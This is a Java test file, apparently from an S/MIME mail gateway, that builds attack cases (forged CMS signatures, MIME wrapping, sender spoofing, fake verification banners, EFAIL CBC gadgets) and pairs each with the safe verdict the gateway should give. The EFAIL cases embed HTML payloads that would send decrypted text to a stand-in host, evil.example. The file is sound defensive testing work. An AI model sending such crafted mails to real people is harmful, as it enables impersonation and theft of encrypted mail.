package org.smimegw.gateway.smime.attacks;

import static org.smimegw.gateway.smime.attacks.AttackCase.absent;
import static org.smimegw.gateway.smime.attacks.AttackCase.bodyUnchanged;
import static org.smimegw.gateway.smime.attacks.AttackCase.contentType;
import static org.smimegw.gateway.smime.attacks.AttackCase.decryption;
import static org.smimegw.gateway.smime.attacks.AttackCase.decryptionIn;
import static org.smimegw.gateway.smime.attacks.AttackCase.noDecryptionHeader;
import static org.smimegw.gateway.smime.attacks.AttackCase.notInHeaders;
import static org.smimegw.gateway.smime.attacks.AttackCase.nowhere;
import static org.smimegw.gateway.smime.attacks.AttackCase.only;
import static org.smimegw.gateway.smime.attacks.AttackCase.reason;
import static org.smimegw.gateway.smime.attacks.AttackCase.signer;
import static org.smimegw.gateway.smime.attacks.AttackCase.status;
import static org.smimegw.gateway.smime.attacks.AttackCase.statusIn;
import static org.smimegw.gateway.smime.attacks.AttackCase.validOnlyFor;
import static org.smimegw.gateway.smime.attacks.Parties.EVE;
import static org.smimegw.gateway.smime.attacks.Parties.JOHNNY;
import static org.smimegw.gateway.smime.attacks.Parties.MANAGER;
import static org.smimegw.gateway.smime.attacks.Parties.OUTSIDER;
import static org.smimegw.gateway.smime.attacks.Parties.chain;
import static org.smimegw.gateway.smime.attacks.Parties.outer;
import static org.smimegw.gateway.smime.attacks.Parties.text;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import org.smimegw.certstore.testing.CmsForgery;
import org.smimegw.certstore.testing.TestPki;
import org.smimegw.gateway.smime.attacks.AttackCase.AttackClass;
import org.smimegw.gateway.smime.attacks.AttackCase.Expectation;

/**
 * The attack cases, built from the published descriptions of "Johnny, You Are Fired" (Müller et al., USENIX Security
 * 2019: CMS, MIME wrapping, ID spoofing, UI redressing), EFAIL (Poddebniak et al., USENIX Security 2018: CBC
 * gadgets, direct exfiltration) and the threat model of RFC 9788 (headers inside and outside the cryptographic
 * envelope), plus controls. Each case says what the attacker sends and the safe verdict.
 */
final class AttackCatalogue {

    static final String FIRED = "Johnny, you are fired!";
    static final String HARMLESS = "Lunch at noon on Friday?";
    /** What only johnny may read: it must never leak out of the ciphertext the attacker aims at. */
    static final String CONFIDENTIAL = "Merger with Initech closes on the 14th";

    private final Parties p;
    private final List<AttackCase> cases = new ArrayList<>();

    private AttackCatalogue(Parties parties) {
        this.p = parties;
    }

    static List<AttackCase> all(Parties parties) throws Exception {
        AttackCatalogue c = new AttackCatalogue(parties);
        c.cms();
        c.mimeWrapping();
        c.idSpoofing();
        c.uiRedressing();
        c.efail();
        c.headerProtection();
        c.controls();
        return List.copyOf(c.cases);
    }

    private void add(AttackClass k, String id, String sends, String safe, String raw, Expectation e) {
        cases.add(new AttackCase(k, id, sends, safe, raw, EVE, List.of(JOHNNY), JOHNNY, e));
    }

    /** A mail as eve's client signs it: From eve, clear-signed with her valid certificate. */
    private String eveSigned(String subject, String body) throws Exception {
        return p.sign(text("From: Eve <" + EVE + ">", subject, body), p.eve);
    }

    /** Mail the manager really signed, which the attacker captured. */
    private String managerSigned(String subject, String body) throws Exception {
        return p.sign(text("From: The Manager <" + MANAGER + ">", subject, body), p.manager);
    }

    private static String textPart(String body) {
        return Raw.lines("Content-Type: text/plain; charset=us-ascii", "") + body + Raw.CRLF;
    }

    private static String htmlPart(String html) {
        return Raw.lines("Content-Type: text/html; charset=us-ascii", "") + html + Raw.CRLF;
    }

    /** Text as raw UTF-8 bytes (one char per byte), as a client sends an RFC 6532 header. */
    private static String utf8(String s) {
        return new String(s.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }

    // ---- Johnny, You Are Fired, class 1: CMS -------------------------------------------------------------------

    private void cms() throws Exception {
        AttackClass k = AttackClass.CMS;
        String firedPart = textPart(FIRED);
        byte[] firedBytes = Raw.bytes(firedPart);
        String from = "From: The Manager <" + MANAGER + ">";

        byte[] econtent = CmsForgery.signedData(Raw.bytes(textPart(HARMLESS)), true, List.of(CmsForgery.Signer.honest(p.manager)),
                chain(p.manager));
        add(k, "cms-econtent-confusion", "multipart/signed showing 'you are fired', whose detached signature part"
                        + " secretly encapsulates (eContent) the manager's harmless signed text",
                "not valid: the signature is checked over the part shown, and does not cover it",
                Raw.message(outer(from, "eContent confusion"),
                        Cms.clearSignedEntity(firedPart, econtent, "application/pkcs7-signature")),
                Expectation.of(status("invalid-signature"), reason("content digest mismatch")));

        byte[] eveOwn = CmsForgery.signedData(firedBytes, false, List.of(CmsForgery.Signer.honest(p.eve)), chain(p.eve));
        byte[] managerCaptured = CmsForgery.signedData(Raw.bytes(textPart(HARMLESS)), false, List.of(CmsForgery.Signer.honest(p.manager)),
                chain(p.manager));
        add(k, "cms-signerinfo-appended", "'you are fired' signed by eve, with a SignerInfo of the manager (copied"
                        + " from a mail he signed) appended",
                "not valid: every signer must verify, the manager's does not match this content",
                Raw.message(outer(from, "multiple signerInfos, appended"), Cms.clearSignedEntity(firedPart,
                        CmsForgery.withSignersOf(eveOwn, managerCaptured, false), "application/pkcs7-signature")),
                Expectation.of(status("invalid-signature"), reason("content digest mismatch")));
        add(k, "cms-signerinfo-prepended", "as above, the manager's SignerInfo first",
                "not valid (invalid-signature)",
                Raw.message(outer(from, "multiple signerInfos, prepended"), Cms.clearSignedEntity(firedPart,
                        CmsForgery.withSignersOf(eveOwn, managerCaptured, true), "application/pkcs7-signature")),
                Expectation.of(status("invalid-signature"), reason("content digest mismatch")));
        add(k, "cms-foreign-signature", "'you are fired' with the manager's detached signature of another mail",
                "not valid: content digest mismatch",
                Raw.message(outer(from, "foreign signature"),
                        Cms.clearSignedEntity(firedPart, managerCaptured, "application/pkcs7-signature")),
                Expectation.of(status("invalid-signature"), reason("content digest mismatch")));

        add(k, "cms-no-signerinfos", "multipart/signed whose SignedData has no SignerInfo at all, but carries the"
                        + " manager's certificate",
                "not valid: a signature without signer is malformed",
                Raw.message(outer(from, "no signerInfos"), Cms.clearSignedEntity(firedPart,
                        CmsForgery.signedData(firedBytes, false, List.of(), chain(p.manager)),
                        "application/pkcs7-signature")),
                Expectation.of(status("malformed")));
        add(k, "cms-no-signerinfos-no-certificates", "SignedData with neither SignerInfo nor certificates",
                "malformed",
                Raw.message(outer(from, "no signerInfos, no certificates"), Cms.clearSignedEntity(firedPart,
                        CmsForgery.signedData(firedBytes, false, List.of(), List.of()), "application/pkcs7-signature")),
                Expectation.of(status("malformed")));
        add(k, "cms-no-signerinfos-opaque", "opaque signed-data encapsulating 'you are fired' with no SignerInfo",
                "malformed",
                Cms.smime(outer(from, "no signerInfos, opaque"),
                        CmsForgery.signedData(firedBytes, true, List.of(), chain(p.manager)), "signed-data"),
                Expectation.of(status("malformed")));

        add(k, "cms-untrusted-ca", "signed with a 'manager' certificate from a CA the gateway does not trust",
                "untrusted (no path to a trust anchor)",
                p.sign(text(from, "trust issues: rogue CA", FIRED), p.rogueManager),
                Expectation.of(status("untrusted")));
        add(k, "cms-expired-certificate", "signed with the manager's expired certificate (key stolen after expiry)",
                "untrusted (expired at the signing time)",
                p.sign(text(from, "trust issues: expired", FIRED), p.expiredManager),
                Expectation.of(status("untrusted")));
        add(k, "cms-wrong-extended-key-usage", "signed with a manager certificate for TLS servers, not e-mail",
                "untrusted (extended key usage)",
                p.sign(text(from, "trust issues: key usage", FIRED), p.serverAuthManager),
                Expectation.of(status("untrusted")));
        add(k, "cms-signer-certificate-left-out", "eve's signature without any certificate, From the manager, hoping"
                        + " the verifier fetches one by address",
                "untrusted: the signer's certificate is not in the signature",
                Raw.message(outer(from, "certificate left out"), Cms.clearSignedEntity(firedPart,
                        CmsForgery.signedData(firedBytes, false, List.of(CmsForgery.Signer.honest(p.eve)), List.of()),
                        "application/pkcs7-signature")),
                Expectation.of(status("untrusted"), reason("the signer's certificate is not in the signature")));
        add(k, "cms-key-substitution", "a SignerInfo naming the manager's certificate (included) but signed with"
                        + " eve's key",
                "invalid-signature",
                Raw.message(outer(from, "key substitution"), Cms.clearSignedEntity(firedPart,
                        CmsForgery.signedData(firedBytes, false,
                                List.of(new CmsForgery.Signer(p.manager.certificate(), p.eve.privateKey())), chain(p.manager)),
                        "application/pkcs7-signature")),
                Expectation.of(status("invalid-signature"), reason("signature does not verify")));
        add(k, "cms-pgp-protocol-label", "the manager's valid S/MIME signature under protocol=application/pgp-signature",
                "not-signed: only the S/MIME protocols are verified, nothing else claims a signature",
                Raw.message(outer(from, "protocol label"), Cms.clearSignedEntity(textPart(HARMLESS), managerCaptured,
                        "application/pgp-signature")),
                Expectation.of(status("not-signed")));
    }

    // ---- class 3: MIME wrapping ----------------------------------------------------------------------------------

    private void mimeWrapping() throws Exception {
        AttackClass k = AttackClass.MIME_WRAPPING;
        String captured = managerSigned("Lunch", HARMLESS);
        String signedEntity = Raw.entity(captured);
        String from = "From: The Manager <" + MANAGER + ">";

        add(k, "mime-prepend-text", "multipart/mixed: 'you are fired' text, then the manager's captured signed mail",
                "not-signed: only a signature at the top level vouches for what a client shows",
                Raw.message(outer(from, "prepended text"), Raw.multipart("mixed", "m1", textPart(FIRED), signedEntity)),
                Expectation.of(status("not-signed")));
        add(k, "mime-append-text", "multipart/mixed: the captured signed part, then 'you are fired'",
                "not-signed",
                Raw.message(outer(from, "appended text"), Raw.multipart("mixed", "m2", signedEntity, textPart(FIRED))),
                Expectation.of(status("not-signed")));
        add(k, "mime-hide-with-html", "HTML 'you are fired' followed by the signed part inside a display:none block",
                "not-signed",
                Raw.message(outer(from, "hidden by HTML"), Raw.multipart("mixed", "m3",
                        htmlPart("<p>" + FIRED + "</p><div style=\"display:none\">"), signedEntity, htmlPart("</div>"))),
                Expectation.of(status("not-signed")));
        add(k, "mime-hide-in-reference", "multipart/related: HTML 'you are fired' and the signed part as an unused"
                        + " cid: resource",
                "not-signed",
                Raw.message(outer(from, "hidden in reference"), Raw.multipart("related; type=\"text/html\"", "m4",
                        htmlPart("<p>" + FIRED + "</p><img src=\"cid:sig@x\" width=0>"),
                        "Content-ID: <sig@x>" + Raw.CRLF + signedEntity)),
                Expectation.of(status("not-signed")));
        add(k, "mime-hide-as-attachment", "'you are fired' with the captured signed mail as a message/rfc822"
                        + " attachment",
                "not-signed",
                Raw.message(outer(from, "hidden as attachment"), Raw.multipart("mixed", "m5", textPart(FIRED),
                        Raw.lines("Content-Type: message/rfc822", "Content-Disposition: attachment") + Raw.CRLF
                                + captured)),
                Expectation.of(status("not-signed")));
        String wrapped = Raw.message(outer(from, "wrapped in eve's signature"),
                Raw.multipart("mixed", "m6", textPart(FIRED), signedEntity));
        add(k, "mime-wrapped-in-eves-signature", "eve clear-signs a multipart holding 'you are fired' and the manager's"
                        + " signed part, From the manager",
                "signer-mismatch: the top-level signature is eve's, the From is the manager's",
                p.sign(wrapped, p.eve), Expectation.of(status("signer-mismatch"), signer(EVE)));
        byte[] managerSignature = CmsForgery.signedData(Raw.bytes(textPart(HARMLESS)), false, List.of(CmsForgery.Signer.honest(p.manager)),
                chain(p.manager));
        add(k, "mime-three-part-signed", "multipart/signed with 'you are fired' inserted as an extra first part",
                "malformed: multipart/signed has exactly two parts",
                Raw.message(outer(from, "three parts"), Raw.multipart("signed; protocol=\"application/pkcs7-signature\";"
                                + " micalg=sha-256", "m7", textPart(FIRED), textPart(HARMLESS),
                        "Content-Type: application/pkcs7-signature" + Raw.CRLF + "Content-Transfer-Encoding: base64"
                                + Raw.CRLF + Raw.CRLF + Cms.base64(managerSignature))),
                Expectation.of(status("malformed")));
    }

    // ---- class 4: ID spoofing ----------------------------------------------------------------------------------

    private void idSpoofing() throws Exception {
        AttackClass k = AttackClass.ID_SPOOFING;
        String signed = eveSigned("ID", FIRED);
        String[][] mismatches = {
                {"id-from-not-signer", "From: The Manager <" + MANAGER + ">", "From names the manager, eve signed"},
                {"id-display-name-quoted", "From: \"" + MANAGER + "\" <" + EVE + ">",
                        "the display name is the manager's address, the mailbox eve's"},
                {"id-display-name-unquoted", "From: " + MANAGER + " <" + EVE + ">",
                        "as above, the display name not even quoted"},
                {"id-display-name-encoded", "From: =?utf-8?b?bWFuYWdlckBiaWdjb3JwLmV4YW1wbGU=?= <" + EVE + ">",
                        "the manager's address as an RFC 2047 encoded display name"},
                {"id-display-name-fullwidth", utf8("From: \"manager\uFF20bigcorp.example\" <" + EVE + ">"),
                        "the manager's address with a fullwidth at-sign in the display name"},
                {"id-comment", "From: " + EVE + " (" + MANAGER + ")", "the manager's address in a comment"},
                {"id-mailbox-then-display", "From: " + EVE + " <" + MANAGER + ">",
                        "eve's address as display name, the manager's as mailbox"},
                {"id-sender-is-signer", "From: The Manager <" + MANAGER + ">" + Raw.CRLF + "Sender: " + EVE,
                        "From the manager, Sender eve (the signer)"},
        };
        for (String[] m : mismatches) {
            add(k, m[0], m[2] + "; signed by eve", "signer-mismatch", Raw.replace("From", m[1], signed),
                    Expectation.of(status("signer-mismatch")));
        }
        String[][] ambiguous = {
                {"id-two-mailboxes-signer-first", "From: " + EVE + ", " + MANAGER},
                {"id-two-mailboxes-signer-second", "From: " + MANAGER + ", " + EVE},
                {"id-same-name-two-mailboxes", "From: The Manager <" + EVE + ">, The Manager <" + MANAGER + ">"},
                {"id-two-from-signer-first", "From: " + EVE + Raw.CRLF + "From: " + MANAGER},
                {"id-two-from-signer-second", "From: " + MANAGER + Raw.CRLF + "From: " + EVE},
                {"id-from-group", "From: Management: " + EVE + ";"},
                {"id-from-only-a-name", "From: The Manager"},
                {"id-from-empty", "From: "},
                {"id-from-missing", null},
        };
        for (String[] a : ambiguous) {
            add(k, a[0], (a[1] == null ? "no From header" : a[1].replace(Raw.CRLF, " / ")) + "; signed by eve",
                    "ambiguous-sender: not exactly one From header with one mailbox",
                    Raw.replace("From", a[1], signed), Expectation.of(status("ambiguous-sender")));
        }
        String lookalike = "manager@xn--bigorp-krf.example";
        TestPki.Issued lookalikeKey = p.pki.issue(lookalike);
        String byLookalike = p.sign(text("From: The Manager <" + MANAGER + ">", "lookalike", FIRED), lookalikeKey);
        add(k, "id-idn-lookalike-real-address", "From the real manager@bigcorp.example, signed with a trusted"
                        + " certificate for the lookalike domain big\u0441orp.example (Cyrillic es)",
                "signer-mismatch: the domains differ once in IDNA form", byLookalike,
                Expectation.of(status("signer-mismatch")));
        add(k, "id-idn-lookalike-own-address", "From the lookalike address in Unicode, signed for it",
                "valid for the lookalike, and X-SMIME-Signer shows it in its xn-- form",
                Raw.replace("From", utf8("From: The Manager <manager@big\u0441orp.example>"), byLookalike),
                Expectation.of(status("valid"), signer(lookalike)));
    }

    // ---- class 5: UI redressing --------------------------------------------------------------------------------

    private void uiRedressing() throws Exception {
        AttackClass k = AttackClass.UI_REDRESSING;
        String banner = "<table style=\"border:1px solid green\"><tr><td>&#x2714; Digitally signed by "
                + MANAGER + " (verified)</td></tr></table><p>" + FIRED + "</p>";
        String html = Raw.lines("From: The Manager <" + MANAGER + ">", "To: " + JOHNNY, "Subject: fake banner",
                "MIME-Version: 1.0", "Content-Type: text/html; charset=us-ascii", "") + banner + Raw.CRLF;
        add(k, "ui-fake-banner-unsigned", "unsigned HTML that draws a 'signed by the manager' banner",
                "not-signed", html, Expectation.of(status("not-signed")));
        add(k, "ui-forged-verdict-headers", "unsigned mail carrying X-SMIME-Status: valid, X-SMIME-Signer: the"
                        + " manager, X-SMIME-Decryption: decrypted",
                "the forged headers are removed; not-signed, no signer, no decryption verdict",
                Raw.prepend("X-SMIME-Status: valid" + Raw.CRLF + "X-SMIME-Signer: " + MANAGER + Raw.CRLF
                        + "X-SMIME-Decryption: decrypted", text("From: " + MANAGER, "forged verdict", FIRED)),
                Expectation.of(status("not-signed"), absent("X-SMIME-Signer"), noDecryptionHeader()));
        add(k, "ui-forged-verdict-headers-odd-spelling", "forged verdict headers in lower case, with a space before"
                        + " the colon, and folded",
                "removed; not-signed",
                Raw.prepend("x-smime-status: valid" + Raw.CRLF + "X-Smime-Signer : " + MANAGER + Raw.CRLF
                        + "X-SMIME-Reason:" + Raw.CRLF + " trusted", text("From: " + MANAGER, "odd spelling", FIRED)),
                Expectation.of(status("not-signed"), absent("X-SMIME-Signer"),
                        d -> org.assertj.core.api.Assertions.assertThat(d.header("X-SMIME-Reason"))
                                .containsExactly("not S/MIME signed")));
        String forgedInside = Raw.lines("X-SMIME-Status: valid", "X-SMIME-Signer: " + MANAGER,
                "Content-Type: text/plain; charset=us-ascii", "") + FIRED + Raw.CRLF;
        add(k, "ui-forged-verdict-inside-encryption", "verdict headers inside the encrypted content (CBC)",
                "nothing from the content reaches the header block: not-signed, decrypted-unauthenticated",
                Parties.encryptCbc(outer("From: " + MANAGER, "forged inside"), forgedInside, p.johnny),
                Expectation.of(status("not-signed"), decryption("decrypted-unauthenticated"),
                        absent("X-SMIME-Signer")));
        String redressed = p.sign(Raw.lines("From: Eve <" + EVE + ">", "To: " + JOHNNY, "Subject: redressed",
                "MIME-Version: 1.0", "Content-Type: text/html; charset=us-ascii", "") + banner + Raw.CRLF, p.eve);
        add(k, "ui-eve-signed-manager-banner", "eve signs HTML that draws 'signed by the manager'",
                "valid, and the verdict names eve as the signer (never the manager)", redressed,
                Expectation.of(status("valid"), signer(EVE)));
    }

    // ---- EFAIL -------------------------------------------------------------------------------------------------

    private void efail() throws Exception {
        AttackClass k = AttackClass.EFAIL;
        // headers end at byte 79; the body runs over more than ten 16-byte blocks
        String secretEntity = Raw.lines("Content-Type: text/plain; charset=us-ascii",
                "Content-Transfer-Encoding: 7bit", "") + CONFIDENTIAL + Raw.CRLF + Raw.lines(
                "The board meets on Monday to approve the terms of the offer.",
                "Please keep this between the two of us until it is announced.",
                "Regards, the manager");
        // what the manager sent johnny, captured by the attacker on the way
        String capturedCbc = Parties.encryptCbc(outer("From: " + MANAGER, "confidential"), secretEntity, p.johnny);
        String capturedPart = Raw.entity(capturedCbc);
        String from = "From: Eve <" + EVE + ">";
        Expectation refused = Expectation.of(decryption("nested-refused"), nowhere(CONFIDENTIAL),
                nowhere("Merger"), status("not-signed"));

        add(k, "efail-direct-exfiltration-mixed", "multipart/mixed: HTML '<img src=\"http://evil.example/?', the"
                        + " captured ciphertext, '\">'",
                "nested-refused: the encrypted part is never decrypted, nothing is joined to attacker text",
                Raw.message(outer(from, "direct exfiltration"), Raw.multipart("mixed", "e1",
                        htmlPart("<img src=\"http://evil.example/?"), capturedPart, htmlPart("\">"))), refused);
        add(k, "efail-direct-exfiltration-alternative", "the same sandwich in multipart/alternative", "nested-refused",
                Raw.message(outer(from, "direct exfiltration, alternative"), Raw.multipart("alternative", "e2",
                        htmlPart("<img src=\"http://evil.example/?"), capturedPart, htmlPart("\">"))), refused);
        add(k, "efail-direct-exfiltration-related", "the same in multipart/related", "nested-refused",
                Raw.message(outer(from, "direct exfiltration, related"), Raw.multipart("related", "e3",
                        htmlPart("<img src=\"http://evil.example/?"), capturedPart, htmlPart("\">"))), refused);
        add(k, "efail-direct-exfiltration-nested", "the ciphertext two multipart levels down", "nested-refused",
                Raw.message(outer(from, "direct exfiltration, nested"), Raw.multipart("mixed", "e4",
                        htmlPart("<form action=\"http://evil.example/\"><textarea name=x>"),
                        Raw.multipart("mixed", "e4b", textPart("see below"), capturedPart))), refused);
        add(k, "efail-ciphertext-as-attached-message", "the captured encrypted mail as a message/rfc822 attachment",
                "nested-refused",
                Raw.message(outer(from, "attached ciphertext"), Raw.multipart("mixed", "e5",
                        htmlPart("<img src=\"http://evil.example/?"),
                        Raw.lines("Content-Type: message/rfc822") + Raw.CRLF + capturedCbc)), refused);
        add(k, "efail-ciphertext-inside-eves-signature", "eve clear-signs a multipart holding the captured ciphertext",
                "nested-refused; the signature is eve's own",
                p.sign(Raw.message(outer(from, "signed sandwich"), Raw.multipart("mixed", "e6",
                        htmlPart("<img src=\"http://evil.example/?"), capturedPart)), p.eve),
                Expectation.of(decryption("nested-refused"), nowhere(CONFIDENTIAL), status("valid"), signer(EVE)));

        byte[] der = Cms.der(capturedCbc);
        add(k, "efail-cbc-gadget-body", "the captured CBC ciphertext with one block in the body altered (a gadget:"
                        + " one garbled block, chosen bits in the next)",
                "decrypted-unauthenticated (never plain 'decrypted'): nothing vouches for the content",
                Cms.smime(outer(from, "CBC gadget"), CmsForgery.xorCiphertext(der, 16 * 8, new byte[] {0x20}),
                        "enveloped-data"),
                Expectation.of(decryption("decrypted-unauthenticated"), status("not-signed")));
        // the first plaintext block is known: "Content-Type: te" (16 bytes); the IV makes it what the attacker wants
        add(k, "efail-cbc-iv-header-injection", "the captured ciphertext with its IV changed so that the first"
                        + " plaintext block reads 'Subject: pwned' and a garbage line follows",
                "no header from the content reaches the delivered header block; decrypted-unauthenticated",
                Cms.smime(outer(from, "original subject"),
                        CmsForgery.xorIv(der, CmsForgery.delta("Content-Type: te", "Subject: pwned\r\n")), "enveloped-data"),
                Expectation.of(decryption("decrypted-unauthenticated"), only("Subject", "original subject"),
                        notInHeaders("pwned"), notInHeaders("xt/plain")));
        String broken = Cms.smime(outer(from, "broken MIME header"),
                CmsForgery.xorIv(der, CmsForgery.delta("Content-Type: te", "Content-Type: ;;")), "enveloped-data");
        add(k, "efail-cbc-breaks-mime-header", "the IV altered so that the decrypted Content-Type no longer parses",
                "failed (reason), and the ciphertext is delivered unchanged: the mail is never lost", broken,
                Expectation.of(decryption("failed"), contentType("application/pkcs7-mime"), bodyUnchanged(),
                        nowhere(CONFIDENTIAL)));
        add(k, "efail-cbc-truncated", "the captured ciphertext with its last block cut off", "failed; unchanged",
                Cms.smime(outer(from, "truncated"), CmsForgery.truncate(der, 1), "enveloped-data"),
                Expectation.of(decryption("failed"), bodyUnchanged()));

        String signedForJohnny = managerSigned("signed and sealed", CONFIDENTIAL);
        byte[] signedDer = Cms.der(Parties.encryptCbc(outer("From: " + MANAGER, "signed and sealed"),
                Raw.entity(signedForJohnny), p.johnny));
        add(k, "efail-cbc-gadget-in-signed-content", "signed-then-encrypted (CBC) mail with a block of the signed"
                        + " text altered",
                "not valid, and the decryption stays unauthenticated (or fails): the signature catches the change",
                Cms.smime(outer("From: The Manager <" + MANAGER + ">", "gadget in signed"),
                        CmsForgery.xorCiphertext(signedDer, 16 * 12, new byte[] {0x01}), "enveloped-data"),
                Expectation.of(statusIn("invalid-signature", "malformed", "not-signed"),
                        decryptionIn("decrypted-unauthenticated", "failed")));

        byte[] gcm = Cms.der(Parties.encryptGcm(outer("From: " + MANAGER, "gcm"), secretEntity, p.johnny));
        add(k, "efail-gcm-tampered", "AES-GCM AuthEnvelopedData with one ciphertext byte altered",
                "failed (the authentication tag does not match), ciphertext delivered unchanged",
                Cms.smime(outer(from, "GCM tampered"), CmsForgery.xorAuthCiphertext(gcm, 3, new byte[] {0x20}),
                        "authEnveloped-data"),
                Expectation.of(decryption("failed"), bodyUnchanged(), nowhere(CONFIDENTIAL)));
        add(k, "efail-enveloped-labelled-authenticated", "CBC EnvelopedData labelled smime-type=authEnveloped-data",
                "the label proves nothing: failed (malformed), never 'decrypted'; the reason is words, not a Java"
                        + " exception",
                Cms.smime(outer(from, "mislabelled"), der, "authEnveloped-data"),
                Expectation.of(only("X-SMIME-Decryption",
                        "failed (the encrypted data (CMS) is malformed or truncated)")));

        add(k, "efail-replay-under-attacker-from", "the captured CBC ciphertext re-sent as a new mail From eve",
                "decrypted-unauthenticated and not-signed: nothing says who wrote it",
                Cms.smime(outer(from, "replayed"), der, "enveloped-data"),
                Expectation.of(decryption("decrypted-unauthenticated"), status("not-signed")));
        add(k, "efail-replay-signed-under-attacker-from", "the manager's signed-then-encrypted mail re-sent From eve",
                "signer-mismatch: the signature inside is the manager's, the From eve's",
                Cms.smime(outer(from, "replayed signed"), signedDer, "enveloped-data"),
                Expectation.of(status("signer-mismatch"), decryption("decrypted-unauthenticated")));
        cases.add(new AttackCase(k, "efail-decryption-oracle-external-copy", "the captured ciphertext addressed to"
                        + " johnny and to an outside mailbox of the attacker's",
                "the outside copy leaves as ciphertext: only internal recipients' copies are decrypted",
                Cms.smime(outer(from, "oracle").replace("To: " + JOHNNY, "To: " + JOHNNY + ", " + OUTSIDER), der,
                        "enveloped-data"),
                EVE, List.of(JOHNNY, OUTSIDER), OUTSIDER,
                Expectation.of(contentType("application/pkcs7-mime"), noDecryptionHeader(), bodyUnchanged(),
                        nowhere(CONFIDENTIAL))));
    }

    // ---- RFC 9788 threat model ---------------------------------------------------------------------------------

    private void headerProtection() throws Exception {
        AttackClass k = AttackClass.HEADER_PROTECTION;
        String innerFields = Raw.lines("From: The CEO <ceo@example.com>", "To: all@example.com",
                "Subject: inner subject", "Date: Tue, 3 Feb 2026 09:00:00 +0000", "Message-ID: <inner@attack.test>");
        String eves = eveSigned("signed by eve", FIRED);
        Expectation outerOnly = Expectation.of(only("From", "Eve <" + EVE + ">"), only("To", JOHNNY),
                only("Subject", "outer subject"), only("Date", "Mon, 2 Feb 2026 10:00:00 +0000"),
                d -> org.assertj.core.api.Assertions.assertThat(d.header("Message-ID")).hasSize(1)
                        .first().asString().endsWith("@attack.test>").isNotEqualTo("<inner@attack.test>"),
                notInHeaders("ceo@example.com"), notInHeaders("inner subject"));

        add(k, "hp-inner-headers-signed-gcm", "eve signs, encrypts (GCM), and puts From: the CEO, To, Subject, Date"
                        + " and Message-ID inside the encryption beside her valid signature",
                "the outer header block stays as it is, one of each field; valid for eve",
                Parties.encryptGcm(outer("From: Eve <" + EVE + ">", "outer subject"), innerFields + Raw.entity(eves), p.johnny),
                outerOnly.and(status("valid"), decryption("decrypted"), signer(EVE)));
        add(k, "hp-inner-headers-signed-cbc", "the same with AES-CBC",
                "outer header block unchanged; valid for eve, decrypted (the signature authenticates the content)",
                Parties.encryptCbc(outer("From: Eve <" + EVE + ">", "outer subject"), innerFields + Raw.entity(eves), p.johnny),
                outerOnly.and(status("valid"), decryption("decrypted"), signer(EVE)));
        add(k, "hp-inner-headers-unsigned-cbc", "unsigned CBC content that carries its own From/To/Subject/Date/"
                        + "Message-ID",
                "nothing promoted; decrypted-unauthenticated, not-signed",
                Parties.encryptCbc(outer("From: Eve <" + EVE + ">", "outer subject"), innerFields + Raw.lines("Content-Type: text/plain", "") + FIRED
                        + Raw.CRLF, p.johnny),
                outerOnly.and(status("not-signed"), decryption("decrypted-unauthenticated")));
        add(k, "hp-fake-protected-headers-cbc", "unauthenticated CBC content claiming hp=\"cipher\" protected"
                        + " headers (From the CEO)",
                "nothing promoted from unauthenticated content, whatever it claims",
                Parties.encryptCbc(outer("From: Eve <" + EVE + ">", "outer subject"), innerFields + Raw.lines(
                        "Content-Type: text/plain; charset=us-ascii; hp=\"cipher\"", "") + FIRED + Raw.CRLF, p.johnny),
                outerOnly.and(status("not-signed"), decryption("decrypted-unauthenticated")));
        String signedPart = innerFields + textPart(FIRED);
        String signedWithInner = Raw.message(outer("From: Eve <" + EVE + ">", "outer subject"), Cms.clearSignedEntity(signedPart,
                CmsForgery.signedData(Raw.bytes(signedPart), false, List.of(CmsForgery.Signer.honest(p.eve)), chain(p.eve)),
                "application/pkcs7-signature"));
        add(k, "hp-inner-headers-in-clear-signed-part", "eve's clear-signed mail whose signed part carries From: the"
                        + " CEO and the other message fields",
                "they stay inside the signed part; the header block is the outer one; valid for eve",
                signedWithInner, outerOnly.and(status("valid"), signer(EVE), validOnlyFor(EVE)));
        String managers = managerSigned("quarterly", HARMLESS);
        add(k, "hp-outer-from-rewritten", "the manager's signed mail with its From rewritten in transit to the CEO",
                "signer-mismatch",
                Raw.replace("From", "From: The CEO <ceo@example.com>", managers),
                Expectation.of(status("signer-mismatch")));
        add(k, "hp-outer-from-added", "the manager's signed mail with a second From header added in transit",
                "ambiguous-sender",
                Raw.prepend("From: The CEO <ceo@example.com>", managers),
                Expectation.of(status("ambiguous-sender")));
    }

    // ---- controls: must keep their verdict ---------------------------------------------------------------------

    private void controls() throws Exception {
        AttackClass k = AttackClass.CONTROL;
        add(k, "control-manager-signed", "the manager's own clear-signed mail", "valid",
                managerSigned("control", HARMLESS), Expectation.of(status("valid"), signer(MANAGER)));
        add(k, "control-manager-signed-opaque", "the manager's opaque-signed mail", "valid",
                p.signOpaque(text("From: " + MANAGER, "control opaque", HARMLESS), p.manager),
                Expectation.of(status("valid"), signer(MANAGER)));
        String fired = textPart(FIRED);
        add(k, "control-crafted-signature", "eve's signature built the way the CMS cases build theirs, From eve",
                "valid: the CMS cases fail for what they change, not for how they are built",
                Raw.message(outer("From: " + EVE, "crafted"), Cms.clearSignedEntity(fired, CmsForgery.signedData(
                        Raw.bytes(fired), false, List.of(CmsForgery.Signer.honest(p.eve)), chain(p.eve)), "application/pkcs7-signature")),
                Expectation.of(status("valid"), signer(EVE)));
        add(k, "control-own-address-as-display-name", "From: \"eve@evil.example\" <eve@evil.example>, signed by eve",
                "valid: the display name is the signer's own address",
                Raw.replace("From", "From: \"" + EVE + "\" <" + EVE + ">", eveSigned("control", HARMLESS)),
                Expectation.of(status("valid"), signer(EVE)));
        add(k, "control-address-case", "From: Eve <EVE@Evil.Example>, signed by eve", "valid (case-insensitive)",
                Raw.replace("From", "From: Eve <EVE@Evil.Example>", eveSigned("control", HARMLESS)),
                Expectation.of(status("valid")));
        String signedByManager = managerSigned("sealed", HARMLESS);
        add(k, "control-signed-and-gcm", "the manager's signed mail encrypted with AES-GCM", "decrypted, valid",
                Parties.encryptGcm(outer("From: The Manager <" + MANAGER + ">", "sealed"),
                        Raw.entity(signedByManager), p.johnny),
                Expectation.of(decryption("decrypted"), status("valid"), signer(MANAGER)));
        add(k, "control-signed-and-cbc", "the manager's signed mail encrypted with AES-CBC",
                "decrypted (the valid signature authenticates the content), valid",
                Parties.encryptCbc(outer("From: The Manager <" + MANAGER + ">", "sealed"),
                        Raw.entity(signedByManager), p.johnny),
